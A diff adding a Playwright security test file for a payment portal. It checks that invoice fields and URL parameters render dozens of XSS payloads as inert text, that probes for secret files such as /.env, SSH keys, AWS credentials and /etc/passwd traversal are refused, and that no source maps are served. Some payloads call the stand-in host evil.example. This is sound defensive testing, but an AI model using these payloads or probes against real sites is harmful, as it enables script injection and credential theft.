@@ -1,0 +1,144 @@
+import type { Page } from '@playwright/test';
+import { addressOf, importInvoice } from './guest-payment-steps.ts';
+import { openDashboard } from './portal-steps.ts';
+import { systemUnderTest } from './support/system.ts';
+import { expect, test } from './support/test.ts';
+
+/** What would run, load or change something if a text of it became part of a page. Each element is marked `data-evil`. */
+const HOSTILE_TEXTS = [
+  '<script data-evil>alert(1)</script>',
+  '<SCRIPT data-evil SRC="https://evil.example/x.js"></SCRIPT>',
+  '</script><script data-evil>alert(2)</script>',
+  '<img data-evil src=x onerror=alert(3)>',
+  '<img data-evil src=x onerror="alert`4`">',
+  '"><img data-evil src=x onerror=alert(5)>',
+  "'><img data-evil src=x onerror=alert(6)>",
+  '"autofocus onfocus=alert(7) data-evil x="',
+  "' onmouseover='alert(8)' data-evil='",
+  '<svg data-evil onload=alert(9)>',
+  '<svg data-evil><script>alert(10)</script></svg>',
+  '<svg data-evil><animate onbegin=alert(11) attributeName=x></svg>',
+  '<math data-evil><mtext><img src=x onerror=alert(12)></mtext></math>',
+  '<iframe data-evil srcdoc="<script>alert(13)</script>"></iframe>',
+  '<iframe data-evil src="javascript:alert(14)"></iframe>',
+  '<a data-evil href="javascript:alert(15)">click</a>',
+  '<form data-evil action="https://evil.example"><input name=card></form>',
+  '<input data-evil autofocus onfocus=alert(16)>',
+  '<details data-evil open ontoggle=alert(17)>',
+  '<video data-evil><source onerror=alert(18)></video>',
+  '<body data-evil onload=alert(19)>',
+  '<base data-evil href="https://evil.example/">',
+  '<meta data-evil http-equiv=refresh content="0;url=https://evil.example">',
+  '<link data-evil rel=stylesheet href="https://evil.example/x.css">',
+  '<style data-evil>*{display:none}</style>',
+  '<object data-evil data="data:text/html,<script>alert(20)</script>"></object>',
+  '<template data-evil><script>alert(21)</script></template>',
+  '<!--><img data-evil src=x onerror=alert(22)>-->',
+  '<![CDATA[<img data-evil src=x onerror=alert(23)>]]>',
+  '<img data-evil src=`x` onerror=alert(24)//',
+  '<<b data-evil>script>alert(25)<</b>/script>',
+  '&lt;img data-evil src=x onerror=alert(26)&gt;',
+  '\\u003cimg data-evil src=x onerror=alert(27)\\u003e',
+  '{{constructor.constructor("alert(28)")()}}',
+  '#{alert(29)}',
+  'javascript:alert(30)',
+  '%3Cimg%20data-evil%20src=x%20onerror=alert(31)%3E',
+  'x" style="background:url(https://evil.example/y)" data-evil="',
+];
+
+/** The text is there as text, and nothing of it has become part of the page. */
+async function expectHarmless(page: Page): Promise<void> {
+  await expect(page.locator('[data-evil]')).toHaveCount(0);
+  await expect(page.locator('main')).toBeVisible();
+}
+
+function failOnDialog(page: Page): void {
+  page.on('dialog', (dialog) => {
+    throw new Error(`a dialog opened: ${dialog.message()}`);
+  });
+}
+
+test('whatever text an office sends is shown as text', async ({ page, office, request }) => {
+  failOnDialog(page);
+  // Three to a location: as much as fits its fields.
+  const texts = HOSTILE_TEXTS.flatMap((_text, index) =>
+    index % 3 === 0 ? [HOSTILE_TEXTS.slice(index, index + 3).join(' ')] : [],
+  );
+  const rows = texts.map((text, index) => ({
+    locationId: index + 1,
+    description: text,
+    addressLine1: text,
+    city: text.slice(0, 100),
+    state: text.slice(-100).trim(),
+    service: HOSTILE_TEXTS.join('\n'),
+    franchiseName: texts[1] ?? '',
+    customerName: text,
+  }));
+  const invoices = await office.importInvoices(...rows);
+  await openDashboard(page, request, { invoices });
+  for (const text of texts) await expect(page.getByText(text).first()).toBeAttached();
+  await expectHarmless(page);
+});
+
+test('whatever an address holds is shown as text', async ({ page, office, consoleGuard }) => {
+  consoleGuard.allow(/status of 404/);
+  failOnDialog(page);
+  const all = HOSTILE_TEXTS.join(' ');
+  const invoice = await importInvoice(office, { service: HOSTILE_TEXTS.join('\n'), zipCode: '78701' });
+  const query = (names: string[], text = all) => new URLSearchParams(names.map((name) => [name, text]));
+  for (const path of [
+    `/guest-payment?${query(['franchiseNumber', 'workOrderNumber', 'zipCode'])}`,
+    `/forgot-password?${query(['email'])}`,
+    `/confirm?${query(['e', 't', 'message'])}`,
+    `/resetpassword?${query(['e', 't'])}`,
+    `/invitation?${query(['e', 't'])}`,
+    `/login?${query(['message', 'redirectTo', 'flash'], 'javascript:alert(1)')}`,
+    `/no-such-page/${encodeURIComponent(HOSTILE_TEXTS[3] ?? '')}#${encodeURIComponent(all)}`,
+  ]) {
+    await page.goto(path);
+    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
+    await expectHarmless(page);
+  }
+  await page.goto(addressOf(invoice));
+  await expect(page.getByText(HOSTILE_TEXTS[0] ?? '', { exact: false }).first()).toBeVisible();
+  await expectHarmless(page);
+});
+
+const HIDDEN_PATHS = [
+  '/.git/config /.git/HEAD /.gitignore /.env /.env.example /.env.production /.npmrc /.ssh/id_rsa /.aws/credentials',
+  '/.DS_Store /.htaccess /.well-known/openid-configuration /.vscode/settings.json /.ci/run /.data /.data/secrets.json',
+  '/package.json /package-lock.json /tsconfig.json /biome.json /node_modules /node_modules/react/package.json /README.md',
+  '/CONTRIBUTING.md /docs /docs/architecture.md /src /src/server.ts /server.ts /app /app/root.tsx /apps/api/src/env.ts',
+  '/vite.config.ts /apps/web/vite.config.ts /e2e /demo/invoices.csv /invoices.csv /backup.sql /dump.sql /database.sqlite',
+  '/backup.zip /logs /log /portal.log /error.log /access.log /debug /trace /status /server-status /metrics /api/metrics',
+  '/api/docs.json /swagger /swagger.json /swagger-ui /graphql /api/graphql /openapi.json /actuator /actuator/env /admin',
+  '/api/admin /wp-admin /wp-login.php /phpinfo.php /phpmyadmin /cgi-bin/test /config.json /settings.json /secrets.json',
+  '/assets /assets/ /assets/.vite/manifest.json /manifest.json /.vite/manifest.json /index.html.map /assets/root.js.map',
+  '/__spa-fallback.html /index.html /login/index.html /api /api/ /api/office /api/documents /api/health /api/_emulator',
+  '/_emulator/ledger /_emulator/merchants /js/v2/pay.js /api/v2/pub/payment_keys /../etc/passwd /..%2f..%2fetc%2fpasswd',
+  '/assets/..%2f..%2fpackage.json /assets/%2e%2e/%2e%2e/package.json /%00 /assets/%00.js //evil.example/ /\\\\evil.example',
+].flatMap((line) => line.split(' '));
+
+test('what is not for the public is not there', async ({ request }) => {
+  expect(HIDDEN_PATHS.length).toBeGreaterThan(60);
+  const { origin } = new URL(systemUnderTest().portalUrl);
+  const answers = await Promise.all(
+    HIDDEN_PATHS.map(async (path) => {
+      const answer = await request.get(`${origin}${path}`, { maxRedirects: 0 });
+      return { path, status: answer.status() };
+    }),
+  );
+  expect(answers.filter(({ status }) => ![400, 401, 403, 404].includes(status))).toEqual([]);
+});
+
+test('no script of ours names a source map', async ({ request }) => {
+  const html = await (await request.get('/')).text();
+  const scripts = [...new Set(html.match(/\/assets\/[\w.-]+\.js/g))];
+  expect(scripts.length).toBeGreaterThan(10);
+  await Promise.all(
+    scripts.map(async (script) => {
+      expect(await (await request.get(script)).text()).not.toContain('sourceMappingURL');
+      expect((await request.get(`${script}.map`)).status()).toBe(404);
+    }),
+  );
+});
